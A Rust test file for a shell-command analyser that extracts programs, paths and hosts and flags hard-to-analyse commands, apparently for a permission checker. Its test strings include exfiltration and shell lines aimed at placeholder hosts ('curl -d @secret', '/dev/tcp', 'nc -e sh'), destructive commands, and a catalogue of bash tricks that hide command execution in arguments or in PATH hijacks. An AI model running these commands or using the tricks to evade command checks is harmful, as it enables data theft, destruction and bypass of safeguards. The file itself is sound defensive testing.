use super::*;

fn told(text: &str) -> String {
    let Shell { programs, paths, hosts, opaque, .. } = Shell::read(text);
    let join = |all: Vec<String>| all.join(" ");
    let programs = join(programs.into_iter().collect());
    let short = |role: ArgumentRole| match role {
        ArgumentRole::ReadPath => "r",
        ArgumentRole::WritePath => "w",
        ArgumentRole::DeletePath => "d",
        ArgumentRole::Url
        | ArgumentRole::Host
        | ArgumentRole::Email
        | ArgumentRole::Sql
        | ArgumentRole::Command
        | ArgumentRole::None
        | ArgumentRole::ByName => "?",
    };
    let paths =
        join(paths.into_iter().map(|(role, path)| format!("{}:{path}", short(role))).collect());
    let hosts = join(hosts.into_iter().collect());
    format!("{programs} [{paths}] [{hosts}]{}", if opaque { " opaque" } else { "" })
}

fn check(cases: &[(&str, &str)]) {
    let wrong: Vec<String> = cases
        .iter()
        .filter(|(text, expected)| told(text) != *expected)
        .map(|(text, expected)| format!("{text:?}\n     got {}\n  wanted {expected}", told(text)))
        .collect();
    assert!(wrong.is_empty(), "\n{}", wrong.join("\n"));
}

#[test]
fn plain_command_lines_are_taken_apart() {
    check(&[
        ("ls -la src", "ls [r:src] []"),
        (
            "hostname -F /etc/shadow; who /a; users b",
            "hostname users who [r:/a r:/etc/shadow r:b] []",
        ),
        ("cat a.txt | grep -n x | sort -o out", "cat grep sort [r:a.txt w:out] []"),
        ("cargo test > log 2>&1", "cargo [w:log] []"),
        (
            "cd src && cat a ../b /c ~/d; cd /e; cat f",
            "cat cd [r:../b r:/c r:/e r:/e/f r:a r:f r:src r:src/../b r:src/a r:src/f r:~/d] []",
        ),
        ("cd && cat a", "cat cd [r:a r:~ r:~/a] []"),
        ("sort -o/etc/passwd a", "sort [r:a w:/etc/passwd] []"),
        ("sort -ruo/etc/passwd a", "sort [r:a w:/etc/passwd] []"),
        ("sort -oout -k2 -t/ a", "sort [r:a w:out] []"),
        ("sort --outp=/etc/passwd a", "sort [r:a w:/etc/passwd] []"),
        ("sort --outp /etc/passwd a", "sort [r:a w:/etc/passwd] []"),
        ("sort --compress-prog=./x a", "sort [r:./x r:a] [] opaque"),
        ("grep -f/etc/shadow a b", "grep [r:/etc/shadow r:a r:b] []"),
        ("grep -rne x /etc", "grep [r:/etc] [] opaque"),
        ("cut -d/ -f1 a", "cut [r:a] []"),
        ("date -f/etc/shadow", "date [r:/etc/shadow] []"),
        ("touch -r../b a", "touch [r:../b w:a] []"),
        ("gcc -I../x -o/etc/cron.d/x -L~/l a.c", "gcc [r:../x r:/etc/cron.d/x r:~/l] []"),
        ("dd if=a of=/dev/sda bs=1M", "dd [r:a w:/dev/sda] []"),
        ("rm -rf build; mkdir -p build/x", "mkdir rm [w:build/x d:build] []"),
        ("cp a b c/ && mv d e", "cp mv [r:a r:b r:d w:c/ w:e d:d] []"),
        ("echo 'a; rm -rf /' \"b | c\" # rm x", "echo [] []"),
        ("echo $HOME ${USER:-x}", "echo [] []"),
        ("head -n 5 a < b", "head [r:a r:b] []"),
        ("git -C sub add ./x", "git [r:./x r:sub r:sub/./x] []"),
        ("git clone https://example.com/a.git", "git [] [https://example.com/a.git]"),
        ("git fetch git@example.com:a/b.git", "git [] [example.com:22]"),
        ("curl -sSL -o out https://a.example/x", "curl [w:out] [https://a.example/x]"),
        ("curl -d @secret a.example", "curl [r:secret] [http://a.example]"),
        ("wget -O x http://a.example/", "wget [w:x] [http://a.example/]"),
        ("nc a.example 443", "nc [] [a.example:443]"),
        ("scp a me@a.example:b", "scp [r:a] [a.example:22]"),
        ("ssh -p 2222 me@a.example", "ssh [] [a.example:2222]"),
        ("if test -f x; then cat x; else true; fi", "cat test true [r:x] []"),
        ("for f in a b; do wc -l x; done", "wc [r:x] []"),
        ("(cat a) && { cat b; }", "cat [r:a r:b] []"),
        ("cat {a,b}.txt x{1,2{3,4}}", "cat [r:a.txt r:b.txt r:x1 r:x23 r:x24] []"),
        ("sed -n 's/a/b/gp' x", "sed [r:x] []"),
        ("sed -i 's/a/b/' x", "sed [w:x] []"),
        ("python3 run.py --out /tmp/x", "python3 [r:/tmp/x r:run.py] []"),
        ("A=1 B=2 make2 x", "make2 [] []"),
        ("cat <<'EOF' > out\n$(rm -rf /)\nEOF\nls", "cat ls [w:out] []"),
        ("diff <(cat a) <(cat b)", "cat diff [r:a r:b] [] opaque"),
        ("", " [] []"),
    ]);
}

mod reviewed;

#[test]
fn wrappers_are_unfolded() {
    check(&[
        ("env A=1 rm x", "env rm [d:x] []"),
        ("sudo -u root rm x", "rm sudo [d:x] []"),
        ("doas rm x", "doas rm [d:x] []"),
        ("nohup nice -n 5 timeout -k 1 5 rm x", "nice nohup rm timeout [d:x] []"),
        ("time rm x", "rm time [d:x] []"),
        ("command -p rm x; exec rm y; builtin echo", "builtin command echo exec rm [d:x d:y] []"),
        ("busybox rm x", "busybox rm [d:x] []"),
        ("bash -c 'rm x'", "bash rm [d:x] []"),
        ("sh -xec 'rm x' y", "rm sh [d:x] []"),
        ("bash -c \"sh -c 'rm x'\"", "bash rm sh [d:x] []"),
        ("/bin/bash -lc 'cat /etc/passwd'", "bash cat [r:/etc/passwd] []"),
        ("find . -name '*.o' -exec rm {} \\;", "find rm [r:. d:.] []"),
        ("find a b -delete", "find [r:a r:b d:a d:b] []"),
        ("echo x | xargs rm", "echo rm xargs [] [] opaque"),
        ("echo $(rm x)", "echo rm [d:x] []"),
        ("echo `rm x`", "echo rm [d:x] []"),
        ("echo \"$(echo \"$(rm x)\")\"", "echo rm [d:x] []"),
        ("ssh a.example rm -rf /", "rm ssh [] [a.example:22] opaque"),
        ("cat a > /dev/tcp/a.example/80", "cat [r:a] [a.example:80]"),
        ("! rm x", "rm [d:x] []"),
        ("r\\m x; 'r'm y; \"rm\" z", "rm [d:x d:y d:z] []"),
        ("/usr/bin/r'm' x", "rm [d:x] []"),
        ("{rm,-rf,x}", "rm [d:x] []"),
    ]);
}

const OPAQUE: &[&str] = &[
    "$X",
    "$X -rf /",
    "${X}",
    "a$X",
    "cat $FILE",
    "cat ${IFS}x",
    "cat$IFS/etc/passwd",
    "r$()m x",
    "rm `ls`",
    "cd $X",
    "cd -",
    "find . -execdir rm {} +",
    "eval rm x",
    "eval \"$X\"",
    ". ./x",
    "source x",
    "alias ls=rm",
    "trap 'rm x' EXIT",
    "python -c 'import os'",
    "python3.11 -c x",
    "python -",
    "echo x | python",
    "node -e x",
    "perl -ne x",
    "ruby -e x",
    "php -r x",
    "bash",
    "bash -s",
    "echo rm | sh",
    "sh <<EOF\nrm x\nEOF",
    "sh <<< 'rm x'",
    "bash -c $X",
    "bash -c",
    "/bin/c?t x",
    "cat *",
    "cat a[bc]",
    "env -S 'rm x'",
    "env -C / rm x",
    "PATH=. ls",
    "LD_PRELOAD=x ls",
    "env LD_PRELOAD=x ls",
    "IFS=x; ls",
    "export PATH=x",
    "git -c alias.x='!rm' x",
    "git -c core.pager=x log",
    "git x",
    "git --exec-path=x log",
    "git clone -u x y",
    "git config alias.x '!rm y'",
    "git fetch 'ext::sh -c rm'",
    "find . -exec sh -c 'rm \"$1\"' _ {} \\;",
    "find -exec cat a{} +",
    "ssh -o ProxyCommand=x a.example",
    "ssh -J b a",
    "rsync -e 'sh -c x' a b",
    "scp -S x a b:c",
    "curl -K x",
    "curl --resolve a:1:b https://a",
    "nc -e sh a 1",
    "awk 'BEGIN{system(\"x\")}'",
    "vim x",
    "sed 's/a/b/e' x",
    "sed '1e rm' x",
    "sed 'w x' y",
    "sed -f x y",
    "tar --to-command=x -xf y",
    "make",
    "a() { rm x; }; a",
    "function a { rm x; }",
    "case x in x) rm y;; esac",
    "[[ -f x ]]",
    "((a=1))",
    "echo $((1+1))",
    "$'\\x72m' x",
    "echo \"$(",
    "echo '",
    "cat <<EOF\n$(rm x)\nEOF",
    "cat <<EOF",
    "a=(b c)",
    "${x:-$(rm y)}",
    "${x@P}",
    "echo {1..3}",
    "echo ~root/x; cat ~root/x",
    "coproc rm x",
    "a | | b)",
    "docker run x",
    "sudo -i",
    "sudo -s",
    "flock x -c 'rm y'",
    "grep -e x y",
    "ls\u{0}",
    "ls\rrm x",
    "ls \u{e000}",
];

#[test]
fn what_is_made_when_it_runs_is_opaque() {
    for text in OPAQUE {
        assert!(Shell::read(text).opaque, "{text:?}: {}", told(text));
    }
}

#[test]
fn what_hides_among_other_words_is_found() {
    for (text, program) in [
        ("true && rm x", "rm"),
        ("true & rm x", "rm"),
        ("true\nrm x", "rm"),
        ("true || rm x", "rm"),
        ("true |& rm x", "rm"),
        ("A=b rm x", "rm"),
        ("A=$(rm x)", "rm"),
        (">x rm y", "rm"),
        ("2>x rm y", "rm"),
        ("<<a rm y\na", "rm"),
        ("ls <(rm x)", "rm"),
        ("ls > >(rm x)", "rm"),
        ("ls \\\n; rm x", "rm"),
        ("while rm x; do :; done", "rm"),
        ("until :; do rm x; done", "rm"),
        ("if rm x; then :; fi", "rm"),
        ("for i in $(rm x); do :; done", "rm"),
        ("[ -f x ] && rm x", "rm"),
        ("x=1; rm y", "rm"),
        ("case x in x) rm y;; esac", "rm"),
        ("f() { rm x; }", "rm"),
        ("echo \"${x:-`rm y`}\" ; rm z", "rm"),
        ("cat <<a\ntext\na\nrm x", "rm"),
    ] {
        assert!(Shell::read(text).programs.contains(program), "{text:?}: {}", told(text));
    }
}

#[test]
fn long_and_deep_texts_end() {
    for text in [
        "$(".repeat(8_000),
        "(".repeat(16_000),
        "{a,b}".repeat(1_000),
        "`".repeat(16_000),
        "a;".repeat(8_000),
        "\"$(".repeat(5_000),
        "<<a ".repeat(4_000),
        "x".repeat(SHELL_BYTES_MAX + 1),
    ] {
        assert!(Shell::read(&text).opaque, "{}", text.get(..20).unwrap());
    }
    let mut nested = "rm x".to_owned();
    for _ in 0..12 {
        nested = format!("env {nested}");
    }
    assert!(Shell::read(&nested).opaque);
}

/// What bash runs although it stands in an argument: `MARK` leaves a mark, and so does `evil/git`.
const RUN_BY_BASH: &[&str] = &[
    "test -v 'a[$(MARK)]'",
    "test -v 'x[`MARK`]'",
    "test -v 'a[$(MARK)]' && true",
    "[ -v 'a[$(MARK)]' ]",
    "[ ! -v 'a[$(MARK)]' ]",
    "[ x = x -a -v 'a[$(MARK)]' ]",
    "x='-v a[$(MARK)]'; [ $x ]",
    "x='-v a[$(MARK)] -o z'; [ $x = y ]",
    "set -- -v 'a[$(MARK)]'; [ \"$@\" ]",
    "x='a[$(MARK)]'; test -v \"$x\"",
    "o=-v; test $o 'a[$(MARK)]'",
    "[[ -v 'a[$(MARK)]' ]]",
    "[[ 0 -eq 'a[$(MARK)]' ]]",
    "x='a[$(MARK)]'; echo $((x))",
    "set -- 'a[$(MARK)]'; echo $(($1))",
    "x='a[$(MARK)]'; echo $[x]",
    "x='a[$(MARK)]'; y=1; echo ${y:x}",
    "x='b[$(MARK)]'; a=1; echo ${a[x]}",
    "x='a[$(MARK)]'; echo ${!x}",
    "printf -v 'a[$(MARK)]' 1",
    "builtin printf -v 'a[$(MARK)]' 1",
    "command printf -v 'a[$(MARK)]' 1",
    "read 'a[$(MARK)]' <<< x",
    "unset 'a[$(MARK)]'; a=(1); unset 'a[$(MARK)]'",
    "let 'a[$(MARK)]=1'",
    "declare 'a[$(MARK)]=1'",
    "typeset -i x='a[$(MARK)]'",
    "export -n 'x=1'; declare -i y; y='a[$(MARK)]'",
    "RANDOM+='a[$(MARK)]'",
    "mapfile -C 'MARK #' -c 1 <<< x",
    "sleep 0 & wait -n -p 'a[$(MARK)]'",
    "jobs -x MARK",
    "trap MARK EXIT",
    "trap MARK DEBUG; true",
    "eval MARK",
    "coproc MARK; wait",
    "compgen -C MARK",
    "compgen -W '$(MARK)'",
    "PS4='$(MARK)'; set -x; true",
    "printf -v PS4 '$(MARK)'; set -x; true",
    "for PS4 in '$(MARK)'; do set -x; true; done",
    "read -r PS4 <<< '$(MARK)'; set -x; true",
    "printf -v PATH \"$PWD/evil\"; git",
    "printf -vPATH evil; git",
    "mkdir 0; cp evil/git 0; printf '%n' PATH; git",
    "for PATH in evil; do git; done",
    "read -r PATH <<< evil; git",
    "unset PATH; : ${PATH:=evil}; git",
    "export PATH=evil; git",
    "readonly PATH=evil; git",
    "declare PATH=evil; git",
    "alias x=MARK\nshopt -s expand_aliases\neval x",
    "hash -p evil/git git; git",
    "set -k; env x=1 true; git PATH=evil",
    "history -s x; fc -s x=y x; source evil/git",
];

/// What is run in a line of these depends on more than bash: where it is not run here, it may be elsewhere.
const RUN_BY_OTHERS: &[&str] = &[
    "exit 'a[$(id)]'",
    "return 'a[$(id)]'",
    "shift 'a[$(id)]'",
    "break 'a[$(id)]'",
    "[ 'a[$(id)]' -eq 0 ]",
    "[ \"$x\" -eq 0 ]",
    "test -t 'a[$(id)]'",
    "printf '%d' 'a[$(id)]'",
    "printf \"$x\" PATH",
    "ulimit -c 'a[$(id)]'",
    "wait \"$x\"",
    "[ * ]",
    "(( a['$(id)'] ))",
    "mapfile -t PATH <<< evil; git",
    "{PATH}>x; git",
    "exec {PATH}>x; git",
    "getopts a PATH",
    "local 'a[$(id)]=1'",
    "export 'a[$(id)]=1'",
    "complete -C id x",
    "bind -x '\"a\":id'",
    "enable -f ./x.so x",
    "history -w x",
    "chdir /etc",
    "cd -e /etc",
    "cd a b",
    "print -P '$(id)'",
    "zsh -c 'echo x'",
    "fish -c 'echo x'",
    "ksh -c 'echo x'",
    "set -o functrace",
    "set -a",
    "SECONDS='a[$(id)]'",
    "GOFLAGS=-toolexec=x go build",
    "unset PATH",
    "unset -n x",
];

#[test]
fn what_a_shell_runs_in_the_arguments_of_its_own_words_is_opaque() {
    for text in RUN_BY_BASH.iter().chain(RUN_BY_OTHERS) {
        assert!(Shell::read(text).opaque, "{text:?}: {}", told(text));
    }
}

#[test]
fn bash_does_run_what_is_held_to_be_run() {
    let mut not_run = Vec::new();
    for text in RUN_BY_BASH {
        let dir = tempfile::tempdir().unwrap();
        let mark = dir.path().join("mark");
        let program = format!("#!/bin/sh\n: > {}\n", mark.display());
        std::fs::create_dir(dir.path().join("evil")).unwrap();
        for name in ["git", "MARK"] {
            let at = dir.path().join("evil").join(name);
            std::fs::write(&at, &program).unwrap();
            let mode = std::os::unix::fs::PermissionsExt::from_mode(0o755);
            std::fs::set_permissions(&at, mode).unwrap();
        }
        let mut bash = std::process::Command::new("bash");
        bash.arg("-c").arg(text.replace("MARK", &dir.path().join("evil/MARK").to_string_lossy()));
        bash.current_dir(dir.path()).stdin(std::process::Stdio::null());
        bash.output().unwrap();
        if !mark.exists() {
            not_run.push(*text);
        }
    }
    assert!(not_run.is_empty(), "{not_run:#?}");
}

#[test]
fn the_words_of_the_shell_are_harmless_in_their_common_forms() {
    for text in [
        "[ -f x ] && echo y",
        "[ -z \"$x\" ] || exit 1",
        "[ \"$x\" = y ]",
        "[ \"$x\" ]",
        "[ ! -d build ]",
        "test 3 -gt 2",
        "[ $? -eq 0 ]",
        "[ $# -eq 1 ]",
        "[ -f a -a -f b ]",
        "printf '%s\\n' \"$x\" a",
        "printf -- '%5d%%\\n' 3",
        "set -euo pipefail; ls",
        "set -x; set +x; set -- a b",
        "exit $?",
        "ls & wait $!",
        "wait; jobs -l; umask 022; ulimit -n 4096; shift 2; exit 0",
        "unset x y; type ls; pwd; dirs; true; :",
        "for f in a b; do echo \"$f\"; done",
        "echo ${x} ${x:-y} ${#x} ${x%.c} ${x##*/} ${x/a/b} ${x:1:2} ${1:-a}",
        "FOO=bar ls",
        "date -d tomorrow +%s",
        "cd -P -- src",
    ] {
        assert!(!Shell::read(text).opaque, "{text:?}: {}", told(text));
    }
}

#[test]
fn every_word_of_bash_is_known() {
    let bash = std::process::Command::new("bash").args(["-c", "compgen -b"]).output().unwrap();
    let words = String::from_utf8(bash.stdout).unwrap();
    let unknown = |word: &&str| programs::kind_of(word, false) == Kind::Unknown;
    // It sends signals, as the program of that name does.
    let unknown: Vec<&str> = words.lines().filter(unknown).filter(|word| *word != "kill").collect();
    assert!(words.lines().count() > 50 && unknown.is_empty(), "{unknown:?}");
}
